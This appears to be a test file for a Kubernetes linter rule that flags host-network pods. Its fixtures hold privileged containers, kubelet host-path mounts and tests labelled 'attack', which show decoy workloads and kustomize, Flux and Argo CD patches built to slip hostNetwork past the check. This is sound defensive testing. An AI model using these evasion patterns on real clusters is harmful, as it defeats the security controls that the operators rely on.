describe('no-host-network: a companion of a node component', () => {
  const exempt = (display: string, evidence: string, at: typeof AT) => ({
    message: `\`hostNetwork: true\` puts ${display} on the node's network, which it needs: ${evidence}.`,
    suppressions: [{ kind: 'evidence', justification: `needs the node's network: ${evidence}` }],
    ...at,
  });
  const error = (display: string, at: typeof AT, detail = NO_POOL) => ({ message: `\`hostNetwork: true\` puts ${display} ${RISK} ${detail}`, suppressions: undefined, ...at });
  const findingsOf = (code: string, config?: Parameters<typeof lintOne>[2]) =>
    lintOne(noHostNetwork, code, config).map((f) => ({ message: f.message, suppressions: f.suppressions, ...rangeOf(f.range) }));
  const SECOND = (line: number) => ({ line, column: 7, endLine: line, endColumn: 18 });

  it("the GCE PD CSI controller beside its node plugin: the driver's image and program (the controller writes the executable, the plugin its entrypoint)", () => {
    assert.deepEqual(findingsOf(`${CONTROLLER('kube-system', DRIVER)}---\n${NODE_PLUGIN('kube-system')}`), [
      exempt('Deployment/kube-system/csi-gce-pd-controller', COMPANION('test.yaml:24:18'), AT),
      exempt('DaemonSet/kube-system/csi-gce-pd-node', NODE_PLUGIN_EXEMPT, SECOND(20)),
    ]);
  });

  it("kubermatic's copy: the image a template action of a literal (`{{ Image \"…\" }}`), the same text in the same file", () => {
    const image = '{{ Image "registry.k8s.io/cloud-provider-gcp/gcp-compute-persistent-disk-csi-driver:v1.15.0" }}';
    const driver = `{name: gce-pd-driver, image: '${image}', args: [--v=5, --endpoint=unix:/csi/csi.sock]}`;
    assert.deepEqual(findingsOf(`${CONTROLLER('kube-system', driver)}---\n${NODE_PLUGIN('kube-system', image)}`), [
      exempt('Deployment/kube-system/csi-gce-pd-controller', COMPANION('test.yaml:24:18'), AT),
      exempt('DaemonSet/kube-system/csi-gce-pd-node', NODE_PLUGIN_EXEMPT, SECOND(20)),
    ]);
  });

  it('a node component in another file of the run, which adds NET_ADMIN and is exempt on it: named with its place', async () => {
    const { lintSources } = await import('../../src/lint.js');
    const { makeConfig } = await import('../helpers/rule-tester.js');
    const node = workload('DaemonSet', 'csi-gce-pd-node', 'storage', `
      containers: [{name: gce-pd-driver, image: example.com/csi:v1, securityContext: {capabilities: {add: [NET_ADMIN]}}}]
    `);
    const controller = CONTROLLER('storage', '{name: gce-pd-driver, image: example.com/csi:v1, args: [--controller]}');
    const findings = lintSources([{ filePath: '/repo/node/node.yaml', text: node }, { filePath: '/repo/controller/controller.yaml', text: controller }],
      { config: makeConfig(), rules: [noHostNetwork] });
    assert.deepEqual(findings.map((f) => [f.filePath, f.suppressions?.[0]?.justification]), [
      ['/repo/node/node.yaml', "needs the node's network: capability `NET_ADMIN` in container `gce-pd-driver`"],
      ['/repo/controller/controller.yaml', "needs the node's network: " +
        COMPANION('node/node.yaml:8:49', 'adds `NET_ADMIN`', 'capability `NET_ADMIN` in container `gce-pd-driver`')],
    ]);
  });

  it("a companion is named only when nothing else decides: the controller's own bootstrap toleration comes first", () => {
    const controller = CONTROLLER('kube-system', DRIVER).replace('      priorityClassName: csi-gce-pd-controller\n',
      '      tolerations: [{key: node.cloudprovider.kubernetes.io/uninitialized, value: "true", effect: NoSchedule}]\n');
    assert.deepEqual(findingsOf(`${controller}---\n${NODE_PLUGIN('kube-system')}`), [
      exempt('Deployment/kube-system/csi-gce-pd-controller', 'a toleration of the bootstrap taint `node.cloudprovider.kubernetes.io/uninitialized`', AT),
      exempt('DaemonSet/kube-system/csi-gce-pd-node', NODE_PLUGIN_EXEMPT, SECOND(20)),
    ]);
  });

  it('a CI runner with a calico-node sidecar in its own namespace: another namespace is no companion', () => {
    const calico = workload('DaemonSet', 'calico-node', 'kube-system', `
      priorityClassName: system-node-critical
      containers: [{name: calico-node, image: quay.io/calico/node:v3.30.3, securityContext: {privileged: true}}]
    `);
    const runner = workload('Deployment', 'runner', 'ci', `
      containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}, {name: calico, image: quay.io/calico/node:v3.30.3}]
    `);
    assert.deepEqual(findingsOf(`${runner}---\n${calico}`), [
      error('Deployment/ci/runner', AT),
      exempt('DaemonSet/kube-system/calico-node', NODE_CRITICAL_EXEMPT, SECOND(17)),
    ]);
  });

  it("in the node component's namespace, a sidecar of its image that runs another program (a shell that sleeps, calicoctl of a unified image) is none", () => {
    const calico = workload('DaemonSet', 'calico-node', 'kube-system', `
      priorityClassName: system-node-critical
      initContainers: [{name: install-cni, image: quay.io/calico/calico:v3.31.0, args: [component, cni, install], securityContext: {privileged: true}}]
      containers: [{name: calico-node, image: quay.io/calico/calico:v3.31.0, args: [component, node], securityContext: {privileged: true}}]
    `);
    const sleeper = workload('Deployment', 'runner', 'kube-system', `
      containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}, {name: calico, image: quay.io/calico/calico:v3.31.0, command: [sh, -c, sleep infinity]}]
    `);
    const calicoctl = workload('Pod', 'calicoctl', 'kube-system', `
      containers: [{name: calicoctl, image: quay.io/calico/calico:v3.31.0, command: [/usr/bin/calicoctl], args: [version, --poll=1m]}]
    `);
    assert.deepEqual(findingsOf(`${sleeper}---\n${calicoctl}---\n${calico}`), [
      error('Deployment/kube-system/runner', AT),
      error('Pod/kube-system/calicoctl', { line: 15, column: 3, endLine: 15, endColumn: 14 }),
      exempt('DaemonSet/kube-system/calico-node', NODE_CRITICAL_EXEMPT, SECOND(25)),
    ]);
  });

  it('an installer (init container) or a controller that does not act on the node shows nothing of its image; a program that differs in its executable is none', () => {
    const calico = workload('DaemonSet', 'calico-node', 'kube-system', `
      priorityClassName: system-node-critical
      initContainers: [{name: install-cni, image: quay.io/calico/calico:v3.31.0, securityContext: {privileged: true}}]
      containers: [{name: calico-node, image: quay.io/calico/node:v3.31.0, command: [/usr/bin/calico-node], securityContext: {privileged: true}}]
    `);
    const controllers = workload('Deployment', 'calico-kube-controllers', 'kube-system', `
      priorityClassName: system-cluster-critical
      containers: [{name: calico-kube-controllers, image: quay.io/calico/kube-controllers:v3.31.0}]
    `);
    const runner = workload('Deployment', 'runner', 'kube-system', `
      containers:
        - {name: a, image: quay.io/calico/calico:v3.31.0}
        - {name: b, image: quay.io/calico/kube-controllers:v3.31.0}
        - {name: c, image: quay.io/calico/node:v3.31.0, command: [/bin/sleep], args: [--, infinity]}
        - {name: d, image: quay.io/calico/node:v3.31.0, command: [/usr/bin/tail]}
    `);
    assert.deepEqual(findingsOf(`${runner}---\n${calico}---\n${controllers}`), [
      error('Deployment/kube-system/runner', AT),
      exempt('DaemonSet/kube-system/calico-node', NODE_CRITICAL_EXEMPT, SECOND(21)),
      exempt('Deployment/kube-system/calico-kube-controllers', '`priorityClassName: system-cluster-critical`', SECOND(33)),
    ]);
  });

  it('a sibling exempt on nothing of its own (privileged alone; a pod-network twin), one that runs nothing, or one Kubernetes refuses, is none: no chains', async () => {
    const IMAGE = 'example.com/agent:v1';
    const privilegedOnly = workload('DaemonSet', 'dind', 'ci', `
      containers: [{name: dind, image: ${IMAGE}, securityContext: {privileged: true}}]
    `);
    const twinned = workload('Deployment', 'agent-host', 'ci', `
      containers: [{name: agent, image: ${IMAGE}, securityContext: {privileged: true}}]
    `) + onPodNetwork('Deployment', 'agent', 'ci', `
      containers: [{name: agent, image: ${IMAGE}, securityContext: {privileged: true}}]
    `);
    const idle = workload('Deployment', 'idle', 'ci', `
      priorityClassName: system-node-critical
      containers: [{name: agent, image: ${IMAGE}, securityContext: {privileged: true}}]
    `).replace('spec:\n  template:', 'spec:\n  replicas: 0\n  template:');
    const refused = workload('DaemonSet', 'refused', 'ci', `
      priorityClassName: system-node-critical
      initContainers: [{name: setup, image: ""}]
      containers: [{name: agent, image: ${IMAGE}, securityContext: {privileged: true}}]
    `);
    const runner = workload('Deployment', 'runner', 'ci', `
      containers: [{name: runner, image: ${IMAGE}}]
    `);
    const { lintSources } = await import('../../src/lint.js');
    const { makeConfig } = await import('../helpers/rule-tester.js');
    // The twin in a folder of its own: beside the runner it would be the runner's twin too.
    const findings = lintSources([
      { filePath: '/repo/runner.yaml', text: [runner, privilegedOnly, idle, refused].join('---\n') },
      { filePath: '/repo/other/twinned.yaml', text: twinned },
    ], { config: makeConfig(), rules: [noHostNetwork] });
    assert.deepEqual(findings.map((f) => [f.message.replace(/ on the node's network.*/, ''), f.suppressions?.[0]?.justification ?? null]), [
      ['`hostNetwork: true` puts Deployment/ci/runner', null],
      ['`hostNetwork: true` puts DaemonSet/ci/dind', null],
      ['`hostNetwork: true` puts Deployment/ci/idle', "needs the node's network: `priorityClassName: system-node-critical`"],
      ['`hostNetwork: true` puts DaemonSet/ci/refused', "needs the node's network: `priorityClassName: system-node-critical`"],
      ['`hostNetwork: true` puts Deployment/ci/agent-host', `needs the node's network: ${TWIN('Deployment `agent`')}`],
    ]);
  });

  it('attack: a decoy sibling that may never run is none (pinned where the runner is not, to a node that does not exist, an image never pulled, a mount the API server refuses)', async () => {
    const IMAGE = 'example.com/agent:v1';
    // Each decoy exempt on its own (privileged with the kubelet folder), running the runner's program, in its namespace.
    const decoy = (name: string, spec: string, container = '') => workload('DaemonSet', name, 'ci', `
      ${spec}
      containers: [{name: agent, image: ${IMAGE}, securityContext: {privileged: true}, volumeMounts: [{name: kubelet, mountPath: /var/lib/kubelet}]${container}}]
      volumes: [{name: kubelet, hostPath: {path: /var/lib/kubelet}}]
    `);
    const runner = workload('Deployment', 'runner', 'ci', `
      nodeSelector: {kubernetes.io/os: linux}
      containers: [{name: runner, image: ${IMAGE}}]
    `);
    const decoys = [
      decoy('selector', 'nodeSelector: {kubernetes.io/os: linux, example.com/never: "true"}'),
      decoy('node-name', 'nodeName: no-such-node'),
      decoy('affinity', 'affinity: {nodeAffinity: {requiredDuringSchedulingIgnoredDuringExecution: {nodeSelectorTerms: [{matchExpressions: [{key: example.com/never, operator: Exists}]}]}}}'),
      decoy('scheduler', 'schedulerName: nobody'),
      decoy('never-pulled', 'nodeSelector: {kubernetes.io/os: linux}', ', imagePullPolicy: Never'),
      decoy('refused', 'nodeSelector: {kubernetes.io/os: linux}').replace('volumeMounts: [{name: kubelet', 'volumeMounts: [{name: ghost, mountPath: /ghost}, {name: kubelet'),
    ];
    const { lintSources } = await import('../../src/lint.js');
    const { makeConfig } = await import('../helpers/rule-tester.js');
    for (const [i, text] of decoys.entries()) {
      const findings = lintSources([{ filePath: '/repo/runner.yaml', text: `${runner}---\n${text}` }], { config: makeConfig(), rules: [noHostNetwork] });
      assert.deepEqual(findings.map((f) => [f.message.replace(/ on the node's network.*/, ''), f.suppressions?.[0]?.justification ?? null])[0],
        ['`hostNetwork: true` puts Deployment/ci/runner', null], `decoy ${i}`);
    }
    // The same sibling placed as the runner is, pulling its image and mounting what it defines: the runner is its companion.
    const placed = lintSources([{ filePath: '/repo/runner.yaml', text: `${runner}---\n${decoy('node', 'nodeSelector: {kubernetes.io/os: linux}')}` }],
      { config: makeConfig(), rules: [noHostNetwork] });
    assert.match(placed[0]!.suppressions?.[0]?.justification ?? '', /a companion of a node component/);
  });

  it('a template that reads values renders per chart and per loop, and a template in another file renders apart: neither is the same image', async () => {
    const values = '{{ .Values.image }}';
    const driver = (image: string) => `{name: gce-pd-driver, image: '${image}', args: [--v=5]}`;
    assert.deepEqual(findingsOf(`${CONTROLLER('kube-system', driver(values))}---\n${NODE_PLUGIN('kube-system', values)}`), [
      error('Deployment/kube-system/csi-gce-pd-controller', AT),
      exempt('DaemonSet/kube-system/csi-gce-pd-node', NODE_PLUGIN_EXEMPT, SECOND(20)),
    ]);
    const { lintSources } = await import('../../src/lint.js');
    const { makeConfig } = await import('../helpers/rule-tester.js');
    const literal = '{{ Image "registry.k8s.io/x:v1" }}';
    const findings = lintSources([
      { filePath: '/repo/node.yaml', text: NODE_PLUGIN('kube-system', literal) },
      { filePath: '/repo/controller.yaml', text: CONTROLLER('kube-system', driver(literal)) },
    ], { config: makeConfig(), rules: [noHostNetwork] });
    assert.deepEqual(findings.map((f) => [f.filePath, f.suppressions?.[0]?.justification ?? null]), [
      ['/repo/node.yaml', `needs the node's network: ${NODE_PLUGIN_EXEMPT}`],
      ['/repo/controller.yaml', null],
    ]);
  });
});

ruleTester(noHostNetwork, {
  valid: [{
    name: "a pod on the pod network that runs a node component's image: nothing to report",
    code: onPodNetwork('Deployment', 'csi-gce-pd-controller', 'kube-system', `
      containers: [${DRIVER}]
    `),
  }],
  invalid: [
    {
      name: 'an infra-pool namespace: a companion is an error too, which names its node component',
      config,
      code: `${CONTROLLER('gitlab-runners', DRIVER)}---\n${NODE_PLUGIN('gitlab-runners')}`,
      errors: [
        {
          message: `\`hostNetwork: true\` puts Deployment/gitlab-runners/csi-gce-pd-controller ${RISK} ${ANNOTATION_HINT('spec.template.metadata.annotations')} ` +
            `The manifest shows ${COMPANION('test.yaml:24:18')}, which does not exempt a pod in a namespace that has an infra pool.`,
          ...AT,
        },
        {
          message: `\`hostNetwork: true\` puts DaemonSet/gitlab-runners/csi-gce-pd-node ${RISK} ${ANNOTATION_HINT('spec.template.metadata.annotations')} ` +
            `The manifest shows ${NODE_PLUGIN_EXEMPT}, which does not exempt a pod in a namespace that has an infra pool.`,
          line: 20, column: 7, endLine: 20, endColumn: 18,
        },
      ],
    },
  ],
});

const LOOPBACK = (written: string, container: string) => `${written} in container \`${container}\` (the API server at the node's loopback)`;

exemptTable([
  {
    name: "a hyperkube test control plane (kubernetes/dns's master.json): the controller-manager reaches the API server at `--master=127.0.0.1:8080`",
    code: workload('Pod', 'k8s-master', 'kube-system', `
      containers:
        - {name: controller-manager, image: registry.k8s.io/hyperkube-amd64:v1.18.20, command: [/hyperkube, controller-manager, --master=127.0.0.1:8080, --v=2]}
        - {name: scheduler, image: registry.k8s.io/hyperkube-amd64:v1.18.20, command: [/hyperkube, scheduler, --master=127.0.0.1:8080]}
    `),
    evidence: LOOPBACK('`--master=127.0.0.1:8080`', 'controller-manager'),
    at: POD_AT,
  },
  {
    name: "kops' controllers: `KUBERNETES_SERVICE_HOST: 127.0.0.1` (client-go's in-cluster address; the port the kubelet gives, 443)",
    code: workload('Deployment', 'kops-controller', 'kube-system', `
      containers: [{name: kops-controller, image: registry.k8s.io/kops/kops-controller:1.31.0, env: [{name: KUBERNETES_SERVICE_HOST, value: 127.0.0.1}]}]
    `),
    evidence: LOOPBACK('`KUBERNETES_SERVICE_HOST: 127.0.0.1`', 'kops-controller'),
  },
  {
    name: 'the flag and its address in two words, one dash, IPv6 loopback with a port, in the args of an init container',
    code: workload('DaemonSet', 'proxy', 'kube-system', `
      initContainers: [{name: wait, image: x, args: [-master, "https://[::1]:6443"]}]
      containers: [{name: proxy, image: y, args: ["--master=http://localhost"]}]
    `),
    evidence: LOOPBACK('`-master https://[::1]:6443`', 'wait'),
  },
  {
    name: 'the loopback API server is named only when nothing else decides: privileged with a node path comes first',
    code: workload('DaemonSet', 'kube-proxy', 'kube-system', `
      containers: [{name: kube-proxy, image: x, command: [/hyperkube, proxy, --master=https://127.0.0.1], securityContext: {privileged: true}, volumeMounts: [{name: modules, mountPath: /host/modules}]}]
      volumes: [{name: modules, hostPath: {path: /lib/modules}}]
    `),
    evidence: '`privileged: true` in container `kube-proxy` and hostPath `/lib/modules`',
  },
]);

ruleTester(noHostNetwork, {
  valid: [{
    name: 'the API server at the loopback, on the pod network: nothing to report',
    code: onPodNetwork('Deployment', 'controller', 'kube-system', `
      containers: [{name: c, image: x, args: [--master=127.0.0.1:8080]}]
    `),
  }],
  invalid: [
    {
      name: "a CI runner's Docker-in-Docker sidecar at `DOCKER_HOST=tcp://localhost:2375`, an oauth2-proxy upstream at the loopback: a server of the pod's own",
      code: workload('Deployment', 'runner', 'ci', `
        containers:
          - {name: runner, image: gitlab/gitlab-runner:v17.0.0, env: [{name: DOCKER_HOST, value: "tcp://localhost:2375"}]}
          - {name: dind, image: docker:27-dind, securityContext: {privileged: true}}
          - {name: oauth2-proxy, image: quay.io/oauth2-proxy/oauth2-proxy:v7.6.0, args: [--upstream=http://127.0.0.1:8080, --http-address=0.0.0.0:4180]}
      `),
      errors: [{
        message: `\`hostNetwork: true\` puts Deployment/ci/runner ${RISK} Nothing in its manifest shows that it needs the node's network ` +
          `(only \`privileged: true\` in container \`dind\`, which is not enough). ${REMOVE}`,
        ...AT,
      }],
    },
    {
      name: 'not the loopback, not an API server flag, a variable, another flag that starts alike (--server, --masters, --master-url)',
      code: workload('Deployment', 'client', 'apps', `
        containers:
          - {name: a, image: x, args: [--master=https://10.0.0.1:6443, --master=https://127.0.0.1.nip.io:6443, --master=$(KUBE_MASTER), --master]}
          - {name: b, image: x, args: [--server=https://127.0.0.1:6443, --masters=127.0.0.1:8080, --master-url=http://localhost:8080]}
          - {name: c, image: x, command: [kubectl, -s, https://127.0.0.1:6443], env: [{name: KUBERNETES_SERVICE_HOST, value: 10.96.0.1}]}
      `),
      errors: [{ message: `\`hostNetwork: true\` puts Deployment/apps/client ${RISK} ${NO_POOL}`, ...AT }],
    },
    {
      name: "an address at a port that a container of the pod declares: the pod's own server (`kubectl proxy` as a sidecar), not the node's",
      code: workload('Deployment', 'external-dns', 'dns', `
        containers:
          - {name: external-dns, image: x, args: [--master=http://127.0.0.1:8001], env: [{name: KUBERNETES_SERVICE_HOST, value: localhost}, {name: KUBERNETES_SERVICE_PORT, value: "6443"}]}
          - {name: kubectl-proxy, image: y, command: [kubectl, proxy, --port=8001], ports: [{containerPort: 8001}, {containerPort: 6443}]}
      `),
      errors: [{ message: `\`hostNetwork: true\` puts Deployment/dns/external-dns ${RISK} ${NO_POOL}`, ...AT }],
    },
    {
      name: 'an infra-pool namespace: the loopback API server is an error too, which the message names',
      config,
      code: workload('Deployment', 'runner', 'gitlab-runners', `
        containers: [{name: runner, image: x, env: [{name: KUBERNETES_SERVICE_HOST, value: "::1"}]}]
      `),
      errors: [{
        message: `\`hostNetwork: true\` puts Deployment/gitlab-runners/runner ${RISK} ${ANNOTATION_HINT('spec.template.metadata.annotations')} ` +
          `The manifest shows ${LOOPBACK('`KUBERNETES_SERVICE_HOST: ::1`', 'runner')}, which does not exempt a pod in a namespace that has an infra pool.`,
        ...AT,
      }],
    },
  ],
});

describe('no-host-network: loopback addresses as client-go reads an API server address', () => {
  it('takes 127.0.0.0/8, localhost and ::1, with the port written or the scheme\'s', async () => {
    const { loopbackUrl } = await import('../../src/resources/loopback-api-server.js');
    const cases: Array<[string, { port: number | undefined } | undefined]> = [
      ['127.0.0.1:8080', { port: 8080 }],
      ['https://127.255.255.254', { port: 443 }],
      ['http://LOCALHOST/api', { port: 80 }],
      ['https://[0:0:0:0:0:0:0:1]:6443', { port: 6443 }],
      ['::1', { port: undefined }],
      ['localhost', { port: undefined }],
      ['https://user@127.0.0.1:65536', { port: undefined }],
      ['127.0.0.256:8080', undefined],
      ['https://[::2]:6443', undefined],
      ['tcp://localhost:2375', undefined],
      ['https://127.0.0.1.nip.io', undefined],
      ['10.0.0.1:6443', undefined],
    ];
    assert.deepEqual(cases.map(([value]) => [value, loopbackUrl(value)]), cases);
  });
});

describe('no-host-network: the inline patches of a kustomization (attack: `kubectl apply -k` puts the base Deployment on the host network)', () => {
  const lint = async (text: string) => {
    const { lintSources } = await import('../../src/lint.js');
    const { makeConfig } = await import('../helpers/rule-tester.js');
    return lintSources([{ filePath: '/repo/overlay/kustomization.yaml', text }], { config: makeConfig(), rules: [noHostNetwork] })
      .map((f) => ({ message: f.message, justification: f.suppressions?.[0]?.justification ?? null, ...rangeOf(f.range) }));
  };

  it('a JSON 6902 operation that adds hostNetwork is an error at its path; a strategic merge patch written inline is judged as a patch file is', async () => {
    const text = [
      'resources: [../base]',
      'namespace: ci',
      'patches:',
      '- target: {kind: Deployment, name: runner}',
      '  patch: |-',
      '    - op: add',
      '      path: /spec/template/spec/hostNetwork',
      '      value: true',
      'patchesStrategicMerge:',
      '- |-',
      '  apiVersion: apps/v1',
      '  kind: DaemonSet',
      '  metadata: {name: agent}',
      '  spec:',
      '    template:',
      '      spec:',
      '        hostNetwork: true',
      '',
    ].join('\n');
    assert.deepEqual(await lint(text), [
      { message: `\`hostNetwork: true\` puts Deployment/ci/runner (an inline patch in kustomization.yaml \`patches[0]\`) ${RISK} ${NO_POOL}`, justification: null, line: 7, column: 13, endLine: 7, endColumn: 44 },
      { message: `\`hostNetwork: true\` puts DaemonSet/ci/agent (an inline patch in kustomization.yaml \`patchesStrategicMerge[0]\`) ${RISK} ${NO_POOL}`, justification: null, line: 17, column: 9, endLine: 17, endColumn: 20 },
    ]);
  });

  it('the same patches in the controllers that run kustomize: Flux Kustomization and HelmRelease post-renderers, Argo CD Application', async () => {
    const { lintSources } = await import('../../src/lint.js');
    const { makeConfig } = await import('../helpers/rule-tester.js');
    const op = (indent: string) => [`${indent}patch: |-`, `${indent}  - {op: add, path: /spec/template/spec/hostNetwork, value: true}`];
    const text = [
      'apiVersion: kustomize.toolkit.fluxcd.io/v1',
      'kind: Kustomization',
      'metadata: {name: runners, namespace: flux-system}',
      'spec:',
      '  patches:',
      '    - target: {kind: Deployment, name: runner, namespace: ci}',
      ...op('      '),
      '---',
      'apiVersion: helm.toolkit.fluxcd.io/v2',
      'kind: HelmRelease',
      'metadata: {name: gitlab-runner, namespace: ci}',
      'spec:',
      '  postRenderers:',
      '    - kustomize:',
      '        patches:',
      '          - target: {kind: Deployment, name: gitlab-runner}',
      ...op('            '),
      '---',
      'apiVersion: argoproj.io/v1alpha1',
      'kind: Application',
      'metadata: {name: runner, namespace: argocd}',
      'spec:',
      '  sources:',
      '    - kustomize:',
      '        patches:',
      '          - target: {kind: DaemonSet, name: agent, namespace: ci}',
      ...op('            '),
      '',
    ].join('\n');
    const findings = lintSources([{ filePath: '/repo/clusters/prod/runners.yaml', text }], { config: makeConfig(), rules: [noHostNetwork] });
    assert.deepEqual(findings.map((f) => [f.message.replace(/ on the node's network[^]*/, ''), f.range.line, f.range.column]), [
      ['`hostNetwork: true` puts Deployment/ci/runner (an inline patch in runners.yaml `spec.patches[0]`)', 8, 27],
      ['`hostNetwork: true` puts Deployment/default/gitlab-runner (an inline patch in runners.yaml `spec.postRenderers[0].kustomize.patches[0]`)', 19, 33],
      ['`hostNetwork: true` puts DaemonSet/ci/agent (an inline patch in runners.yaml `spec.sources[0].kustomize.patches[0]`)', 30, 33],
    ]);
  });

  it('a JSON 6902 patch in a file of its own (named by `path:` in the kustomization, which may not mention hostNetwork): its pod spec is where it writes', async () => {
    const { lintSources } = await import('../../src/lint.js');
    const { makeConfig } = await import('../helpers/rule-tester.js');
    const sources = [
      { filePath: '/repo/overlay/kustomization.yaml', text: 'resources: [../base]\npatches:\n- path: hostnet.yaml\n  target: {kind: Deployment, name: runner}\n' },
      { filePath: '/repo/overlay/hostnet.yaml', text: '- op: replace\n  path: /spec/template/spec/dnsPolicy\n  value: ClusterFirstWithHostNet\n- op: add\n  path: /spec/template/spec/hostNetwork\n  value: true\n' },
      { filePath: '/repo/overlay/pod.json', text: '[{"op": "add", "path": "/spec", "value": {"hostNetwork": true, "tolerations": [{"key": "node.kubernetes.io/not-ready", "operator": "Exists"}]}}]\n' },
      { filePath: '/repo/overlay/other.yaml', text: '- {op: add, path: /spec/hostNetworkPolicy, value: true}\n' },
    ];
    const findings = lintSources(sources, { config: makeConfig(), rules: [noHostNetwork] });
    assert.deepEqual(findings.map((f) => [f.filePath, f.message.replace(/ on the node's network[^]*/, ''), f.suppressions?.[0]?.justification ?? null, f.range.line, f.range.column]), [
      ['/repo/overlay/hostnet.yaml', '`hostNetwork: true` puts Deployment/default/(unnamed) (the JSON 6902 patch file hostnet.yaml)', null, 5, 9],
      ['/repo/overlay/pod.json', '`hostNetwork: true` puts Pod/default/(unnamed) (the JSON 6902 patch file pod.json)', "needs the node's network: a toleration of the bootstrap taint `node.kubernetes.io/not-ready`", 1, 43],
    ]);
  });

  it('evidence the patch writes counts; YAML 1.2 `yes` in a strategic merge patch is the string kustomize writes (the API server refuses it); other kinds and other fields are nothing', async () => {
    const text = [
      'patchesJson6902:',
      '- target: {group: apps, version: v1, kind: DaemonSet, name: kube-proxy, namespace: kube-system}',
      '  patch: |-',
      '    [{"op": "replace", "path": "/spec/template/spec", "value": {"hostNetwork": true, "priorityClassName": "system-node-critical"}}]',
      '- target: {version: v1, kind: ConfigMap, name: c}',
      '  patch: |-',
      '    - {op: add, path: /spec/template/spec/hostNetwork, value: true}',
      'patches:',
      '- patch: |-',
      '    apiVersion: apps/v1',
      '    kind: Deployment',
      '    metadata: {name: web}',
      '    spec: {template: {spec: {hostNetwork: yes}}}',
      '',
    ].join('\n');
    const evidence = '`priorityClassName: system-node-critical`';
    assert.deepEqual(await lint(text), [{
      message: `\`hostNetwork: true\` puts DaemonSet/kube-system/kube-proxy (an inline patch in kustomization.yaml \`patchesJson6902[0]\`) on the node's network, which it needs: ${evidence}.`,
      justification: `needs the node's network: ${evidence}`,
      line: 4, column: 65, endLine: 4, endColumn: 78,
    }]);
  });
});

describe('no-host-network: a companion that a kustomize overlay patches is judged patched, still a companion', () => {
  it("the GCE PD controller with the dev overlay's args patch (upstream's deploy/kubernetes tree): exempt", async () => {
    const { lint } = await import('../../src/api.js');
    const { workspace } = await import('../helpers/cli.js');
    const root = await workspace({
      'base/controller.yaml': CONTROLLER('kube-system', DRIVER),
      'base/node.yaml': NODE_PLUGIN('kube-system'),
      'base/kustomization.yaml': 'resources: [controller.yaml, node.yaml]\n',
      'overlays/dev/kustomization.yaml': 'resources: [../../base]\npatches: [{path: driver-args.yaml}]\n',
      'overlays/dev/driver-args.yaml': 'apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: csi-gce-pd-controller, namespace: kube-system}\n' +
        'spec:\n  template:\n    spec:\n      containers:\n        - name: gce-pd-driver\n          args: [--v=4, --run-node-service=false]\n',
    });
    const results = await lint({ paths: ['.'], cwd: root });
    const seen = results.flatMap((result) => [
      ...result.messages.filter((message) => message.ruleId === 'no-host-network').map((message) => [path.relative(root, result.filePath), message.message]),
      ...result.suppressedMessages.filter((message) => message.ruleId === 'no-host-network')
        .map((message) => [path.relative(root, result.filePath), message.suppressions[0]!.justification]),
    ]);
    assert.deepEqual(seen, [
      ['base/controller.yaml', `needs the node's network: ${COMPANION('base/node.yaml:11:18')}`],
      ['base/node.yaml', `needs the node's network: ${NODE_PLUGIN_EXEMPT}`],
    ]);
  });
});
